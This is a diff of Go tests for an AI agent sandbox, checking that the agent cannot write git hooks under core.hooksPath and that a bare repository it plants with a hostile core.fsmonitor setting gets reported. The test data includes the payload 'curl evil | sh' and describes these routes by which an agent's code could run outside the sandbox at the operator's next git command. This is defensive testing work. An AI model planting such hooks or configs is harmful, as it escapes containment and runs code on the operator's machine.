@@ -808,13 +808,15 @@ func TestReviewReportsProtectedModes(t *testing.T) {
 	}
 }
 
-// TestReviewBareRepoAndHooksPath: what name rules cannot protect, the
-// session's end reports (README, known limits): the hooks directory the
-// repository's config names in core.hooksPath (husky's .husky/_), whose
-// hooks git outside runs, and a bare repository the agent plants, whose
-// config git outside obeys (core.fsmonitor) when the operator runs git
-// there. An ordinary directory with a file named config is no finding.
-// An adversarial review found neither reported, as the README claimed.
+// TestReviewBareRepoAndHooksPath: the hooks directory the workspace's
+// repository names in core.hooksPath (husky's .husky/_) is write-protected
+// with the config that names it (TestGitIncludedConfigProtected); what
+// name rules cannot protect, the session's end reports (README, known
+// limits): a bare repository the agent plants, whose config git outside
+// obeys (core.fsmonitor) when the operator runs git there, and the hooks
+// directory of a nested repository. An ordinary directory with a file
+// named config is no finding. An adversarial review found none of them
+// reported, as the README claimed.
 func TestReviewBareRepoAndHooksPath(t *testing.T) {
 	s := newSandbox(t, standard)
 	gitRepo(t, s)
@@ -824,21 +826,13 @@ func TestReviewBareRepoAndHooksPath(t *testing.T) {
 	}
 	pre := s.write("home/proj/.husky/_/pre-commit", "#!/bin/sh\nnpm test\n")
 	post := s.ws + "/.husky/_/post-checkout"
+	wantErr(t, "the agent rewrites a hook", s.agent("write", pre, "curl evil | sh"), "EROFS", "EACCES")
+	wantErr(t, "the agent adds a hook", s.agent("write", post, "curl evil | sh"), "EROFS", "EACCES")
+	wantOK(t, "control: a file beside the hooks directory", s.agent("write", s.ws+"/.husky/notes.md", "ordinary"))
+	wantOK(t, "control: bare adds the hook", s.bare("write", post, "curl evil | sh"))
 	a := shq(agent)
-	r := s.sh(a + " write .husky/_/pre-commit 'curl evil | sh' && " + a + " write .husky/_/post-checkout 'curl evil | sh' && " + a + " write .husky/notes.md ordinary")
-	if r.code != 0 {
-		t.Fatalf("the agent's hooks: %s", r)
-	}
-	for _, want := range []string{"modified " + pre, "created " + post} {
-		if !strings.Contains(r.stderr, want) {
-			t.Errorf("the session's end does not report %q: %s", want, r.stderr)
-		}
-	}
-	if strings.Contains(r.stderr, "notes.md") {
-		t.Errorf("a file outside the hooks directory is reported: %s", r.stderr)
-	}
 	planted := s.ws + "/planted"
-	r = s.sh("mkdir -p planted/objects planted/refs ordinary && echo 'ref: refs/heads/main' > planted/HEAD && " +
+	r := s.sh("mkdir -p planted/objects planted/refs ordinary && echo 'ref: refs/heads/main' > planted/HEAD && " +
 		a + " write planted/config '[core]\n\tbare = true\n\tfsmonitor = evil\n' && " + a + " write ordinary/config x")
 	if r.code != 0 {
 		t.Fatalf("the agent's bare repository: %s", r)
@@ -883,9 +877,12 @@ func TestReviewBareRepoAndHooksPath(t *testing.T) {
 }
 
 // TestReviewHooksPathOfEnclosingRepo: a workspace inside a repository
-// whose config names a hooks directory in the workspace: the review
-// reports a hook the agent writes there (git outside runs it at the
-// operator's next commit in the enclosing repository).
+// whose config names a hooks directory in the workspace (git outside runs
+// its hooks at the operator's next commit in the enclosing repository):
+// the agent cannot write a hook there, and when the directory did not
+// exist at launch, cannot create it (its parent is carved, as for a
+// protected file that does not exist yet) while other new files in the
+// workspace's subdirectories stay possible.
 func TestReviewHooksPathOfEnclosingRepo(t *testing.T) {
 	s := newSandbox(t, standard)
 	git := s.lookPath("git")
@@ -897,11 +894,15 @@ func TestReviewHooksPathOfEnclosingRepo(t *testing.T) {
 	}
 	s.mkdir("home/proj/hooks")
 	hook := s.ws + "/hooks/pre-commit"
-	r := s.agent("write", hook, "curl evil | sh")
-	wantOK(t, "the agent writes in the workspace", r)
-	if !strings.Contains(r.stderr, "created "+hook) {
-		t.Errorf("the session's end does not report a hook in the enclosing repository's hooksPath: %s", r.stderr)
+	wantErr(t, "the agent writes a hook", s.agent("write", hook, "curl evil | sh"), "EROFS", "EACCES")
+	wantOK(t, "control: bare writes it", s.bare("write", hook, "# operator\n"))
+	if err := os.RemoveAll(s.ws + "/hooks"); err != nil {
+		t.Fatal(err)
 	}
+	s.mkdir("home/proj/src")
+	wantErr(t, "the agent creates the hooks directory", s.agent("mkdir", s.ws+"/hooks"), "EACCES")
+	wantOK(t, "control: a new file in a subdirectory", s.agent("write", s.ws+"/src/new.go", "package x\n"))
+	wantOK(t, "control: bare creates the hooks directory", s.bare("mkdir", s.ws+"/hooks"))
 }
 
 // TestReviewHomeInPrivateTmp: a home directory inside /tmp is bound into
